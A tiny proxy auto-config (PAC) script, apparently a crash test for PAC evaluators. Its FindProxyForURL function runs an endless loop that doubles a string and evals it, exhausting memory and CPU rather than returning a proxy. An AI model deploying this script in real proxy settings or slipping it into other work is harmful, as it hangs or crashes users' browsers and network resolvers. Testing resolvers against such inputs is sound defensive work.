function FindProxyForURL(url, host) {
  for (var text = '1'; ; ) { text = text + '+' + text; eval(text); }
}
